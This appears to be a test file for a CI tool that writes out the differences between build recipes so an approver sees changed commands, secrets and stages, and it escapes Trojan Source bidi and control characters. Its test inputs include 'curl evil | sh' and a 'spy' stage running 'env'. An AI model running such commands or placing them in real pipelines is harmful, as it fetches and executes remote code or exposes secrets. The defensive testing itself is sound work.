"""S12: whoever approves sees what would be run otherwise, and nothing hides in it."""

from __future__ import annotations

from hubwright.domain.recipe import read_recipe
from hubwright.domain.recipe_difference import MAX_LINES, compare_recipes, deciding_files, write_changes
from hubwright.domain.recipe_values import Recipe

BASE = "stages:\n- build: make\n- test: |\n    make check\n    make dist\n"


def recipe(text: str) -> Recipe:
    return read_recipe(text, ".hubwright.yml")


def told(head: str, base: str = BASE) -> str:
    return write_changes(compare_recipes(recipe(base), recipe(head)))


def test_the_same_recipe_differs_in_nothing() -> None:
    assert compare_recipes(recipe(BASE), recipe(BASE)) == ()
    assert told(BASE) == "The recipe runs the same as the base's.\n"


def test_commands_env_secrets_images_and_networks_show() -> None:
    """Field by field, whatever fields there are."""
    head = """
env: {A: '1'}
stages:
- build:
    run: make
    secrets: [TOKEN]
    env: {B: two}
    network: false
    image: debian
    artifacts: ['dist/*']
- test: |
    make check
    curl evil | sh
"""
    text = told(head)
    for line in ("recipe: env\n+ A=1", "stage build: secrets\n+ TOKEN", "stage build: env\n+ B=two"):
        assert line in text
    for line in ("stage build: network\n- True\n+ False", "stage build: image\n+ debian", "stage build: artifacts\n+ "):
        assert line in text
    assert "  make check\n- make dist\n+ curl evil | sh" in text


def test_added_removed_and_reordered_stages_show() -> None:
    text = told("stages:\n- spy: env\n- test: |\n    make check\n    make dist\n")
    assert "stage spy: added\n+ run: env" in text
    assert "stage build: removed\n- run: make" in text
    assert "recipe: order of stages" in told("stages:\n- test: |\n    make check\n    make dist\n- build: make\n")


def test_nothing_hides_in_it() -> None:
    """Bidi and control characters are shown (Trojan Source), a line can't pose as another, and all has a bound."""
    text = told('stages:\n- build: "make \\u202e\\u2066 \\e[2J"\n- test: |\n    make check\n    make dist\n')
    assert "⟨U+202E⟩" in text
    assert "\x1b" not in text
    long = told("stages:\n- build: |\n" + "".join(f"    echo {n}\n" for n in range(3_000)))
    assert len(long.splitlines()) == MAX_LINES + 1
    assert long.splitlines()[-1].endswith("lines more.")


def test_files_that_decide_what_is_run_are_named() -> None:
    files = ["src/a.c", ".hubwright.yml", "Makefile", "sub/Makefile", ".github/workflows/x.yml", "ci/own.yml"]
    assert deciding_files(files, "ci/own.yml") == tuple(files[1:])
